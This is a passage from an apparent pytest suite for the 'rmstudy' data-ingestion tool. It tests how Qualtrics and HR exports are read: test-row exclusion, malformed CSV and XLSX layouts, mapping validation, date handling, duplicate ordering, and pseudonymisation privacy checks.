    out = capsys.readouterr().out
    assert "pre.csv: 8 rows read, 8 written" in out and "OK — 8 participants" in out
    assert "  post.csv: 6 rows read, 6 written (csv, one header row, utf-8, comma-delimited); 2 column(s) dropped\n" \
           "    ledger: 6 row(s) after the header = 6 written + 0 excluded\n  hr.csv" in out
    _set_cell(raw / "post.csv", 3, "Q1_2", "four")
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli2")]) == 2
    err = capsys.readouterr().err
    assert "nothing was written" in err and "post.csv, row 3, column 'Q1_2'" in err
    assert not (tmp_path / "cli2").exists()


def test_worked_example_of_the_docs_runs_on_the_fixture(raw, monkeypatch):
    text = (ROOT / "docs" / "ingest.md").read_text(encoding="utf-8")
    example = re.search(r"`mapping.yaml`:\n\n```yaml\n(.*?)```", text, re.S).group(1)
    (raw / "mapping.yaml").write_text(example)
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    report = _ingest(raw)
    assert report["cohort"]["ok"] and report["pseudonymised"]
    assert pseudonym(KEY, "E104") in (raw.parent / "out" / "participants.csv").read_text()


# ---------------------------------------------------------------------------------------------- rows that are not responses

PREVIEW = "Qualtrics preview/test/spam response"


def test_qualtrics_preview_and_test_rows_are_left_out_and_ledgered(raw, tmp_path, capsys):
    _ingest(raw, tmp_path / "before")
    before = (tmp_path / "before" / "responses.csv").read_text().splitlines()
    rows = _csv_rows(raw / "pre.csv")
    head = rows[0]
    rows[9][head.index("Status")] = "Survey Test"          # row 10: E107, answers that look real, but a test
    preview = list(rows[3])                                 # a preview: no id and an impossible answer, so it would
    preview[head.index("Status")] = "Survey Preview"        # be two problems if it were read as a response
    preview[head.index("EmpID")] = ""
    preview[head.index("Q1_1")] = "9"
    _write_csv_rows(raw / "pre.csv", rows + [[], preview])  # row 12 blank, row 13 the preview
    report = _ingest(raw)
    pre = _input(report, "pre.csv")
    assert pre["ledger"] == {"rows_in": 10, "written": 7, "excluded": 3, "reasons": {
        "blank row": [12],
        f"{PREVIEW} (Status 'Survey Test')": [10],
        f"{PREVIEW} (Status 'Survey Preview')": [13]}}
    _reconciles(report)
    assert (pre["rows_read"], pre["rows_written"], pre["blank_rows_skipped"]) == (9, 7, [12])
    assert pre["test_response_columns"] == ["Status"] and pre["keep_test_responses"] is False
    assert {"column": "Status", "reason": "listed in drop"} in pre["dropped_columns"]   # not written, still read
    after = (raw.parent / "out" / "responses.csv").read_text().splitlines()
    assert len(after) == len(before) - 1 and after == [ln for ln in before if not ln.startswith("E107,pre,")]

    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 0
    out = capsys.readouterr().out
    assert "  pre.csv: 9 rows read, 7 written (csv, qualtrics (3 header rows), utf-8, comma-delimited); 11 column(s) " \
           "dropped\n    ledger: 10 row(s) after the header = 7 written + 3 excluded\n" \
           "      excluded, blank row: row 12\n" in out
    assert f"      excluded, {PREVIEW} (Status 'Survey Test'): row 10\n" in out
    assert f"      excluded, {PREVIEW} (Status 'Survey Preview'): row 13\n" in out


def test_keep_test_responses_keeps_them_and_lists_them(raw):
    _set_cell(raw / "pre.csv", 10, "Status", "survey  PREVIEW")     # case and spaces do not matter
    report = _ingest(raw)
    assert _input(report, "pre.csv")["ledger"]["reasons"] == {f"{PREVIEW} (Status 'Survey Preview')": [10]}
    assert "E107,pre," not in (raw.parent / "out" / "responses.csv").read_text()

    _mapping(raw, lambda m: m["surveys"][0].update(keep_test_responses=True))
    report = _ingest(raw)
    pre = _input(report, "pre.csv")
    assert pre["ledger"] == {"rows_in": 8, "written": 8, "excluded": 0, "reasons": {}}
    assert pre["keep_test_responses"] is True
    assert pre["test_responses_kept"] == {f"{PREVIEW} (Status 'Survey Preview')": [10]}
    assert "E107,pre,2024-12-28,2,3,4,2" in (raw.parent / "out" / "responses.csv").read_text()

    _mapping(raw, lambda m: m["surveys"][0].update(keep_test_responses="yes"))
    p = _one(_problems(raw), file="mapping.yaml", column="surveys.0.keep_test_responses")
    assert p.row is None and p.message == "keep_test_responses is 'yes', not true or false"
    _mapping(raw, lambda m: m.update(keep_test_responses=True))     # a survey-level key only
    _one(_problems(raw), file="mapping.yaml", column="keep_test_responses", message="unknown key 'keep_test_responses'")


def test_numeric_status_and_distribution_channel_in_a_qualtrics_xlsx(raw):
    rows = _csv_rows(raw / "pre.csv")
    status = rows[0].index("Status")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(rows[0] + ["DistributionChannel"])
    ws.append(rows[1] + ["Distribution Channel"])
    ws.append(rows[2] + ['{"ImportId":"distributionChannel"}'])
    codes = {5: 4, 6: 1, 9: 8, 11: 16}      # row -> Status code: Imported, Survey Preview, Spam, Offline; others 0
    for n, r in enumerate(rows[3:], start=4):
        cells = list(r)
        cells[status] = codes.get(n, 0)      # numbers, as a numeric-values export holds them
        ws.append(cells + ["test" if n == 7 else "anonymous"])
    wb.save(raw / "pre.xlsx")
    (raw / "pre.csv").unlink()
    _mapping(raw, lambda m: m["surveys"][0].update(file="pre.xlsx"))
    report = _ingest(raw)
    pre = _input(report, "pre.xlsx")
    assert pre["header_rows"] == 3 and pre["test_response_columns"] == ["Status", "DistributionChannel"]
    assert pre["ledger"] == {"rows_in": 8, "written": 5, "excluded": 3, "reasons": {
        f"{PREVIEW} (Status 1 = 'Survey Preview')": [6],
        f"{PREVIEW} (DistributionChannel 'test')": [7],
        f"{PREVIEW} (Status 8 = 'Spam')": [9]}}
    _reconciles(report)
    lines = (raw.parent / "out" / "responses.csv").read_text().splitlines()
    assert {ln.split(",")[0] for ln in lines if ",pre," in ln} == {"E101", "E102", "E105", "E107", "E108"}


def test_unknown_or_empty_status_is_a_problem(raw):
    _set_cell(raw / "pre.csv", 7, "Status", "Survey Draft")
    _set_cell(raw / "pre.csv", 8, "Status", "")
    probs = _problems(raw)
    assert len(probs) == 2
    p = _one(probs, file="pre.csv", row=7, column="Status")
    assert p.message == ("unknown Status 'Survey Draft' (not a Qualtrics response type), so rmstudy cannot tell "
                         "whether the row is a real response")
    assert "IP Address (0), Imported (4), Offline (16)" in p.fix
    assert "set keep_test_responses: true under surveys.0" in p.fix
    p = _one(probs, file="pre.csv", row=8, column="Status")
    assert p.message == "Status is empty, so rmstudy cannot tell whether the row is a real response"
    _mapping(raw, lambda m: m["surveys"][0].update(keep_test_responses=True))   # keeps every row, unchecked
    pre = _input(_ingest(raw), "pre.csv")
    assert pre["ledger"]["written"] == 8 and pre["test_responses_kept"] == {}


def test_status_column_that_the_mapping_uses_is_not_read_as_a_response_type(raw):
    _set_cell(raw / "post.csv", 1, "Submitted", "Status")       # another tool's export: Status holds the date
    _mapping(raw, lambda m: m["surveys"][1].update(submitted_on="Status") or m["drop"].remove("Status"))
    report = _ingest(raw)          # dates read as response types would be six problems
    post = _input(report, "post.csv")
    assert post["test_response_columns"] == [] and post["mapped_columns"]["Status"] == "submitted_on"
    assert post["ledger"] == {"rows_in": 6, "written": 6, "excluded": 0, "reasons": {}}
    assert _input(report, "pre.csv")["test_response_columns"] == ["Status"]
    assert "E101,post,2025-07-08,4,4,2,4" in (raw.parent / "out" / "responses.csv").read_text()


def test_status_column_of_another_survey_tool_is_an_ordinary_column(raw):
    """post.csv is a plain export (one header row, no Qualtrics columns): its own Status ("Complete") is not read."""
    path = raw / "post.csv"
    rows = list(csv.reader(path.open(newline="")))
    rows = [r + ["Status" if k == 0 else "Complete"] for k, r in enumerate(rows)]
    with path.open("w", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows(rows)
    post = _input(_ingest(raw), "post.csv")
    assert post["test_response_columns"] == []
    assert post["ledger"] == {"rows_in": 6, "written": 6, "excluded": 0, "reasons": {}}


# ---------------------------------------------------------------------------------------------- merged and unnamed columns


def _post_xlsx(raw, edit):
    """post.csv as post.xlsx, changed by ``edit(worksheet)``, and the mapping pointed at it."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in _csv_rows(raw / "post.csv"):
        ws.append(r)
    edit(ws)
    wb.save(raw / "post.xlsx")
    (raw / "post.csv").unlink()
    _mapping(raw, lambda m: m["surveys"][1].update(file="post.xlsx"))


def test_merged_cells_in_an_xlsx_are_problems(raw):
    def edit(ws):
        ws["E1"] = "Engagement"            # a banner over the four item columns, as a report layout would have it
        ws.merge_cells("E1:H1")
        ws.merge_cells("B3:B4")            # Bo's name over Di's row: Di's cell becomes empty

    _post_xlsx(raw, edit)
    probs = _problems(raw)
    assert len(probs) == 2, [str(p) for p in probs]
    p = _one(probs, file="post.xlsx", row=1, column="E1:H1 'Engagement'")
    assert p.message == ("header cells E1:H1 are merged: only column E gets the name 'Engagement'; column(s) F to H "
                         "get no name")
    assert p.fix == "unmerge the header cells and give every column its own name in one header row"
    p = _one(probs, file="post.xlsx", row=3, column="B3:B4 'Name'")
    assert p.message == "cells B3:B4 are merged: only B3 keeps its value; the other 1 cell(s) read as empty"
    assert "Fixture" not in str(p)         # the merged value (a name here) is not repeated in the message


def test_merged_header_cells_in_a_qualtrics_xlsx_name_the_header_row(raw):
    rows = _csv_rows(raw / "pre.csv")
    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    ws.merge_cells("N2:Q2")               # the question text of Q1_1 spread over the four item columns
    wb.save(raw / "pre.xlsx")
    _mapping(raw, lambda m: m["surveys"][0].update(file="pre.xlsx"))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [
        ("pre.xlsx", 2, "N2:Q2 'How far do you agree? - People of every age are listened to in my team.'")]


def test_blank_header_over_data_is_a_dropped_column_with_a_warning(raw):
    _set_cell(raw / "post.csv", 1, "Name", "")
    report = _ingest(raw)
    post = _input(report, "post.csv")
    assert {"column": "(column 2, no header)", "reason": "no header name; 6 row(s) hold data in it"} \
        in post["dropped_columns"]
    assert report["warnings"] == ["post.csv: column 2 has no header name but 6 row(s) hold data in it; it was "
                                  "dropped. If it matters, give it a name in the header row and map it"]
    assert "Fixture" not in (raw.parent / "out" / "responses.csv").read_text()
    # in a CSV, cells beyond the header's last column stay a problem (usually a delimiter or quoting mistake)
    path = raw / "post.csv"
    lines = path.read_text().splitlines()
    lines[3] += ",stray"
    path.write_text("\n".join(lines) + "\n")
    p = _one(_problems(raw), file="post.csv", row=4)
    assert (p.column, p.message) == (None, "row has 9 cells but the header has 8")


def test_blank_header_over_data_in_an_xlsx(raw):
    from openpyxl.styles import Font

    def edit(ws):
        ws["B1"] = None                    # the Name header deleted, the names left
        ws["J2"], ws["J3"] = "note", "call back"      # a column of notes with no header, after one empty column
        ws["M1"].font = ws["A40"].font = Font(bold=True)   # formatting alone: no column M, no rows 8 to 40

    _post_xlsx(raw, edit)
    report = _ingest(raw)
    post = _input(report, "post.xlsx")
    unnamed = [c for c in post["dropped_columns"] if c["column"].endswith("no header)")]
    assert unnamed == [{"column": "(column B, no header)", "reason": "no header name; 6 row(s) hold data in it"},
                       {"column": "(column I, no header)", "reason": "no header name and no data"},
                       {"column": "(column J, no header)", "reason": "no header name; 2 row(s) hold data in it"}]
    assert [w.split(";")[0] for w in report["warnings"]] == [
        "post.xlsx: column B has no header name but 6 row(s) hold data in it",
        "post.xlsx: column J has no header name but 2 row(s) hold data in it"]
    assert post["ledger"] == {"rows_in": 6, "written": 6, "excluded": 0, "reasons": {}}


def test_flow_of_an_ingested_cohort_carries_the_raw_export_ledger(raw):
    """results.json's flow (and the academic report) start from the raw exports: previews left out at ingest."""
    _set_cell(raw / "pre.csv", 6, "Status", "Survey Preview")
    report = _ingest(raw)
    c = rm.analysis_cohort(raw.parent / "out")
    flow = rm.participant_flow(c, rm.score_scales(c.responses, c.codebook))
    by_file = {f["file"]: f for f in flow["ingest"]}
    assert by_file["pre.csv"] == {"file": "pre.csv", "kind": "survey", "rows_in": 8, "written": 7, "excluded": 1,
                                  "reasons": {"Qualtrics preview/test/spam response (Status 'Survey Preview')": 1}}
    assert sum(f["written"] for f in flow["ingest"] if f["kind"] == "survey") == \
        flow["ledger"]["responses.csv"]["rows_in"]
    assert by_file["hr.csv"]["written"] == flow["ledger"]["participants.csv"]["rows_in"] == report["participants"]
    (raw.parent / "out" / "ingest_report.json").unlink()           # a cohort folder made by hand has no such ledger
    assert "ingest" not in rm.participant_flow(c, rm.score_scales(c.responses, c.codebook))


def test_raw_exports_to_reports_with_two_commands(tmp_path):
    """The researcher's path: `rmstudy ingest` on raw exports (a Qualtrics CSV with a preview row, an XLSX, an HR
    extract), then `rmstudy run` on the folder it wrote. results.json's flow starts from the raw rows, and the
    academic report shows the raw-export ledger."""
    import subprocess
    import sys

    tables, _ = rm.simulate_cohort(seed=11, n_pairs=24, n_control_juniors=24, n_control_seniors=24, truth_mc=1000)
    rm.save_cohort(tmp_path / "src", tables["participants"], tables["responses"], tables["employment"],
                   tables["codebook"], tables["study"])             # the mapping takes codebook and plan from here
    d = tmp_path / "raw"
    d.mkdir()
    _raw_exports(tables, d)
    rows = _csv_rows(d / "pre_qualtrics.csv")
    preview = list(rows[3])
    preview[rows[0].index("Status")] = "Survey Preview"
    preview[rows[0].index("EmpID")] = ""                          # previews carry no respondent
    _write_csv_rows(d / "pre_qualtrics.csv", rows[:3] + [preview] + rows[3:])
    exe = Path(sys.executable).with_name("rmstudy")
    p = subprocess.run([str(exe), "ingest", str(d / "mapping.yaml"), "--out", str(tmp_path / "cohort")],
                       capture_output=True, text=True, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    p = subprocess.run([str(exe), "run", "cohort", "--out", "reports", "--no-progress"], capture_output=True,
                       text=True, cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    res = json.loads((tmp_path / "reports" / "results.json").read_text())
    pre = next(f for f in res["flow"]["ingest"] if f["file"] == "pre_qualtrics.csv")
    assert pre["excluded"] == 1 and pre["rows_in"] == pre["written"] + 1
    assert pre["reasons"] == {"Qualtrics preview/test/spam response (Status 'Survey Preview')": 1}
    assert sum(f["written"] for f in res["flow"]["ingest"] if f["kind"] == "survey") == \
        res["flow"]["ledger"]["responses.csv"]["rows_in"]
    academic = (tmp_path / "reports" / "academic_report.html").read_text()
    assert "Raw exports brought in with" in academic and "pre_qualtrics.csv" in academic
    assert res["inputs"]["ingest_report.json"] in academic          # hashed like every other input
    hr = (tmp_path / "reports" / "hr" / "hr_report.html").read_text()
    assert "pre_qualtrics" not in hr and "@example.org" not in hr and str(tmp_path) not in hr


# ---------------------------------------------------------------------------------------------- rows of the wrong width


def test_unquoted_decimal_comma_that_adds_an_empty_cell_is_an_error_not_a_shift(raw):
    """`12,5` unquoted makes two cells; cutting the row's extra (empty) last cell would shift every answer."""
    (raw / "post.csv").write_text(
        "EmpID,Submitted,Duration,Q1_1,Q1_2,Q1_3,Q1_4,Comment\n"
        "E101,2025-07-08,12,5,4,4,2,4,\n"          # Duration 12,5 unquoted: 9 cells, the last one empty
        "E102,2025-07-10,8,3,4,3,3,\n"
        "E104,2025-07-09,9,Strongly agree,4,Strongly disagree,5,\n"
        "E105,2025-07-11,7,3,3,3,2,\n"
        "E106,,,3,,,,\n"
        "E107,2025-07-09,6,2,3,3,3,\n")
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("post.csv", 2, None, "row has 9 cells but the header has 8")]
    assert "decimal comma, 12,5" in probs[0].fix


def test_short_row_is_an_error_not_padded_with_empty_answers(raw):
    path = raw / "post.csv"
    path.write_text(path.read_text().replace("E105,Ed Fixture,ed.fixture@example.org,2025-07-11,3,3,3,2",
                                             "E105,Ed Fixture,ed.fixture@example.org,2025-07-11,3,3"))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("post.csv", 5, None, "row has 6 cells but the header has 8")]
    assert "lacks cells" in probs[0].fix


def test_stray_quote_that_swallows_the_following_lines_is_named(raw):
    path = raw / "post.csv"
    path.write_text(path.read_text().replace("E104,Di Fixture", 'E104,"Di Fixture'))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("post.csv", 4, "Name", "row has 2 cells but the header has 8: a quote character opens a cell that runs over "
                                "4 lines (lines 4 to 7 of the file), so the rows on those lines are read as text "
                                "inside this cell")]
    assert "stray quote" in probs[0].fix


def test_trailing_delimiter_on_every_line_is_fine_but_not_on_the_data_lines_only(raw):
    path = raw / "post.csv"
    lines = path.read_text().splitlines()
    path.write_text("".join(ln + ",\n" for ln in lines))          # header included: every row one cell wider
    report = _ingest(raw)
    assert report["cohort"]["ok"] and report["response_rows"] == 14
    assert {"column": "(column 9, no header)", "reason": "no header name and no data"} in \
        _input(report, "post.csv")["dropped_columns"]
    assert "E104,post,2025-07-09,5,4,1,5" in (raw.parent / "out" / "responses.csv").read_text()
    path.write_text(lines[0] + "\n" + "".join(ln + ",\n" for ln in lines[1:]))     # data lines only
    probs = _problems(raw, raw.parent / "out2")
    assert [(p.file, p.row, p.column) for p in probs] == [("post.csv", n, None) for n in range(2, 8)]
    assert probs[0].message == "row has 9 cells but the header has 8"


# ---------------------------------------------------------------------------------------------- the mapping file


def test_delimiter_of_more_than_one_character_is_a_mapping_problem(raw):
    path = raw / "mapping.yaml"
    path.write_text(path.read_text().replace("  - file: post.csv\n", "  - file: post.csv\n    delimiter: '\\t'\n"))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("mapping.yaml", None, "surveys.1.delimiter", "delimiter '\\t' is 2 characters, not one")]
    assert '"\\t" for a tab' in probs[0].fix


def test_empty_or_non_mapping_mapping_file(raw, tmp_path, capsys):
    (raw / "mapping.yaml").write_text("# nothing yet\n")
    assert [(p.file, p.row, p.column, p.message) for p in _problems(raw)] == [
        ("mapping.yaml", None, None, "the mapping file is empty")]
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 2
    assert "Traceback" not in capsys.readouterr().err
    (raw / "mapping.yaml").write_text("- codebook.yaml\n- study.yaml\n")
    assert [(p.file, p.column, p.message) for p in _problems(raw)] == [
        ("mapping.yaml", None, "the mapping is not a YAML mapping of keys")]


def test_date_format_that_cannot_read_a_date_is_one_mapping_problem(raw):
    _mapping(raw, lambda m: m["hr"].update(date_format="%d/%m/%Y %Q"))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [("mapping.yaml", None, "hr.date_format")]
    assert probs[0].message.startswith("date_format '%d/%m/%Y %Q' cannot be used to read dates")
    _mapping(raw, lambda m: m["hr"].update(date_format="%d/%m"))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("mapping.yaml", None, "hr.date_format", "date_format '%d/%m' does not hold a whole date: 6 January 2025 "
                                                 "written with it ('06/01') reads back as 1900-01-06")]


def test_key_written_twice_in_the_mapping_is_refused_and_yaml_errors_show_no_path(raw, monkeypatch):
    path = raw / "mapping.yaml"
    path.write_text(path.read_text().replace("pseudonymise: false", "pseudonymise: true") + "pseudonymise: false\n")
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    (p,) = _problems(raw)
    assert (p.file, p.row, p.column) == ("mapping.yaml", None, None)
    assert p.message.startswith("cannot be read as YAML: key 'pseudonymise' appears twice in the same mapping")
    path.write_text("codebook: [unclosed\n")
    with pytest.raises(CohortError) as e:
        ingest(path.resolve(), raw.parent / "out")
    (p,) = e.value.problems
    assert p.message.startswith("cannot be read as YAML") and "mapping.yaml" in p.message
    assert str(raw) not in p.message


def test_xlsx_workbook_with_a_csv_name_is_one_problem(raw):
    wb = openpyxl.Workbook()
    for r in _csv_rows(raw / "post.csv"):
        wb.active.append(r)
    wb.save(raw / "post.csv")                     # a workbook under the old name
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("post.csv", None, None, "this is an XLSX workbook saved with a .csv name, not a CSV")]
    assert "rename the file to .xlsx" in probs[0].fix


def test_report_records_the_sha256_of_each_written_csv(raw):
    report = _ingest(raw)
    out = raw.parent / "out"
    assert report["written_sha256"] == {
        name: hashlib.sha256((out / name).read_bytes()).hexdigest()
        for name in ("participants.csv", "responses.csv", "employment.csv")}
    assert json.loads((out / "ingest_report.json").read_text())["written_sha256"] == report["written_sha256"]


# ---------------------------------------------------------------------------------------------- XLSX formulas and dates


def _hr_xlsx(raw, cell, epoch=None):
    """hr.csv as hr.xlsx: ``cell(row_number, header, text)`` gives each cell's value; the mapping points at it."""
    rows = _csv_rows(raw / "hr.csv")
    wb = openpyxl.Workbook()
    if epoch is not None:
        wb.epoch = epoch
    ws = wb.active
    ws.append(rows[0])
    for n, r in enumerate(rows[1:], start=2):
        ws.append([cell(n, h, v) for h, v in zip(rows[0], r)])
    wb.save(raw / "hr.xlsx")
    (raw / "hr.csv").unlink()
    _mapping(raw, lambda m: m["hr"].update(file="hr.xlsx"))


def _hr_value(n, h, v):
    """HR cells as an HR system's workbook holds them: numbers as numbers, dates as date cells."""
    if h in ("Age", "Years of service", "Sessions"):
        return float(v) if v else None
    if h in ("Start date", "Leaving date"):
        return dt.datetime.strptime(v, "%d/%m/%Y") if v else None
    return v


def test_formula_items_with_no_saved_value_are_problems_not_empty_answers(raw):
    """A workbook written by a script stores =6-I2 without its value: read as data_only it would be empty."""
    def edit(ws):
        ws["I1"] = "Q1_4_raw"
        for r in range(2, 8):
            raw_answer = ws.cell(r, 8).value
            if raw_answer not in (None, ""):
                ws.cell(r, 9).value = 6 - int(raw_answer)
                ws.cell(r, 8).value = f"=6-I{r}"

    _post_xlsx(raw, edit)
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [("post.xlsx", r, "Q1_4") for r in (2, 3, 4)]
    assert probs[0].message == ("formula with no saved value (the workbook was written by a program that does not "
                                "compute formulas), so the cell reads as empty")
    assert probs[2].message.endswith("; 2 more cell(s) of this column hold such a formula (row(s) 5, 7)")
    assert probs[0].fix.startswith("open the workbook in Excel or LibreOffice and save it")


def test_formula_exit_dates_with_no_saved_value_in_the_hr_workbook(raw):
    _hr_xlsx(raw, lambda n, h, v: f'=DATEVALUE("{v}")' if h == "Leaving date" and v else _hr_value(n, h, v))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [("hr.xlsx", r, "Leaving date") for r in (4, 6, 7)]


def test_formula_whose_saved_value_is_an_empty_text_is_an_empty_cell(raw):
    """Excel saves =IF(...,"",...) with t="str" and an empty value: a real empty cell, not a missing value."""
    import zipfile

    _hr_xlsx(raw, lambda n, h, v: "=1" if (h, n) == ("Leaving date", 2) else _hr_value(n, h, v))
    path = raw / "hr.xlsx"
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i.filename) for i in z.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    cell = re.search(r'<c r="L2"[^>]*><f>1</f><v\s*/></c>', sheet).group(0)
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(cell, '<c r="L2" t="str"><f>IF(1,"",1)</f><v></v></c>').encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    report = _ingest(raw)
    assert report["cohort"]["ok"]
    assert "E101,2023-09-01,," in (raw.parent / "out" / "employment.csv").read_text()


def test_bare_date_serials_use_the_workbooks_1904_date_system(raw):
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    def serial_1904(n, h, v):
        if h in ("Start date", "Leaving date") and v:
            return (dt.datetime.strptime(v, "%d/%m/%Y").date() - dt.date(1904, 1, 1)).days
        return _hr_value(n, h, v)

    _hr_xlsx(raw, serial_1904, epoch=CALENDAR_MAC_1904)
    assert _ingest(raw)["cohort"]["ok"]
    emp = (raw.parent / "out" / "employment.csv").read_text()
    assert "E101,2023-09-01,," in emp and "E103,2021-11-08,2025-05-20,voluntary" in emp


def test_a_year_typed_as_a_number_in_a_date_column_is_refused(raw):
    _hr_xlsx(raw, lambda n, h, v: 2023 if (h, n) == ("Start date", 2) else _hr_value(n, h, v))
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("hr.xlsx", 2, "Start date", "the number 2023 in a date column is Excel's date serial number for "
                                     "1905-07-15, outside the plausible range of dates, 1920-01-01 to 2100-12-31: a "
                                     "year typed as a number?")]


def test_open_ended_and_typo_dates_are_problems_not_a_traceback(raw, tmp_path, capsys):
    _set_cell(raw / "hr.csv", 2, "Leaving date", "31/12/9999")        # SAP's "no end": still employed
    _set_cell(raw / "hr.csv", 3, "Start date", "17/03/3003")          # a typo year
    probs = _problems(raw)
    assert [(p.file, p.row, p.column, p.message) for p in probs] == [
        ("hr.csv", 2, "Leaving date", "'31/12/9999' (9999-12-31) is outside the plausible range of dates, "
                                      "1920-01-01 to 2100-12-31"),
        ("hr.csv", 3, "Start date", "'17/03/3003' (3003-03-17) is outside the plausible range of dates, "
                                    "1920-01-01 to 2100-12-31")]
    assert "still employed, leave the exit date empty" in probs[0].fix
    assert main(["ingest", str(raw / "mapping.yaml"), "--out", str(tmp_path / "cli")]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "hr.csv, row 2, column 'Leaving date'" in err


# ---------------------------------------------------------------------------------------------- same-day duplicates


def _keep_latest(raw):
    plan = yaml.safe_load((raw / "study.yaml").read_text())
    plan.update(schema_version=3, duplicate_submissions="keep_latest")
    (raw / "study.yaml").write_text(yaml.safe_dump(plan, sort_keys=False))


def test_same_day_duplicates_are_written_in_the_order_they_were_submitted(raw):
    """The later submission (17:29) sits above the earlier one (09:05) in the export; responses.csv keeps only the
    date, so it lists them by time and keep_latest's same-date tie-break (the later row) picks the 17:29 one."""
    rows = _csv_rows(raw / "pre.csv")
    head = rows[0]
    first = rows[3]
    later = list(first)
    for col, when in (("StartDate", "2024-12-28 17:20:00"), ("EndDate", "2024-12-28 17:29:40"),
                      ("RecordedDate", "2024-12-28 17:29:41"), ("ResponseId", "R_1zzzzzzzzzzzzz")):
        later[head.index(col)] = when
    for item, answer in zip(("Q1_1", "Q1_2", "Q1_3", "Q1_4"), ("5", "5", "1", "5")):
        later[head.index(item)] = answer
    _write_csv_rows(raw / "pre.csv", rows[:3] + [later] + rows[3:])
    _keep_latest(raw)
    report = _ingest(raw)
    assert report["cohort"]["ok"], report["cohort"]
    out = raw.parent / "out"
    lines = (out / "responses.csv").read_text().splitlines()
    assert lines[1:3] == ["E101,pre,2024-12-28,3,3,4,2", "E101,pre,2024-12-28,5,5,1,5"]
    from rmstudy.checks.validate import validate

    (f,) = [f for f in validate(out).exclusions if f.check == "duplicate_submission"]
    assert (f.row, f.participant_id) == (2, "E101") and "row 3 is kept" in f.message


def test_same_day_duplicates_in_datetime_cells_of_a_workbook(raw):
    def edit(ws):
        for r in range(2, 8):
            day = ws.cell(r, 4).value
            ws.cell(r, 4).value = dt.datetime.fromisoformat(f"{day} 08:00") if day else None
        ws.append(["E101", "Ada Fixture", "", dt.datetime(2025, 7, 8, 7, 15), 1, 1, 5, 1])   # earlier, below

    _post_xlsx(raw, edit)
    _keep_latest(raw)
    assert _ingest(raw)["cohort"]["ok"]
    post = [ln for ln in (raw.parent / "out" / "responses.csv").read_text().splitlines() if ln.startswith("E101,post")]
    assert post == ["E101,post,2025-07-08,1,1,5,1", "E101,post,2025-07-08,4,4,2,4"]


# ---------------------------------------------------------------------------------------------- names and privacy


def test_mapped_column_differing_only_in_case_is_an_error_not_an_empty_item(raw):
    path = raw / "post.csv"
    lines = path.read_text().splitlines()
    path.write_text("\n".join([lines[0].replace("Q1_4", "q1_4")] + lines[1:]) + "\n")
    probs = _problems(raw)
    assert [(p.file, p.row, p.column) for p in probs] == [("post.csv", 1, "q1_4")]
    assert probs[0].message == ("the mapping's column 'Q1_4' (columns.Q1_4: inc_4) is not in the file, but 'q1_4' "
                                "is: the same name but for case, spaces or underscores")
    assert "surveys.1.columns" in probs[0].fix
    # the respondent id column gets the same hint
    path.write_text("\n".join([lines[0].replace("EmpID", "Emp ID")] + lines[1:]) + "\n")
    p = _one(_problems(raw), file="post.csv", column="EmpID")
    assert p.message == "id column 'EmpID' is not in the file"
    assert p.fix.endswith("'Emp ID' differs from 'EmpID' only in case, spaces or underscores")


def test_written_text_value_holding_an_employee_id_is_refused_when_pseudonymising(raw, monkeypatch):
    rows = _csv_rows(raw / "hr.csv")
    pair, dept = rows[0].index("Pair"), rows[0].index("Department")
    for r in rows[1:]:
        r[pair] = {"PR1": "E101-E102", "PR2": "E103-E104"}.get(r[pair], r[pair])
    rows[6][dept] = "Finance (team of e108)"            # row 7; case does not matter
    rows[8][dept] = "Sales E1070"                       # row 9: E107 is not a token of it
    _write_csv_rows(raw / "hr.csv", rows)
    assert _ingest(raw)["cohort"]["ok"]                 # without pseudonymisation the ids are the ids anyway
    _mapping(raw, lambda m: m.update(pseudonymise=True))
    monkeypatch.setenv("RMSTUDY_PSEUDONYM_KEY", KEY)
    probs = _problems(raw, raw.parent / "out2")
    assert [(p.file, p.row, p.column) for p in probs] == [("hr.csv", 2, "Pair"), ("hr.csv", 3, "Pair"),
                                                          ("hr.csv", 4, "Pair"), ("hr.csv", 5, "Pair"),
                                                          ("hr.csv", 7, "Department")]
    assert probs[0].message == ("'E101-E102' contains the employee id(s) E101, E102: with pseudonymise: true it "
                                "would carry employee ids into the cohort folder")
    assert probs[0].fix.startswith("map a label that carries no employee id")
    assert "E108" in probs[4].message
    assert not (raw.parent / "out2").exists()


def test_looks_like_identifier_catches_names_of_people_and_birth_dates():
    for name in ("Manager name", "Line manager name", "Mentor name", "Mentor's name", "Username", "User name",
                 "user_name", "Date of birth", "DOB", "Employee DOB", "Birth date", "Birthdate", "Birthday",
                 "Date of birth (DD/MM/YYYY)"):
        assert looks_like_identifier(name), name
    # the name of a thing is not a direct identifier; nor is a birth year (age is the cohort's column for it)
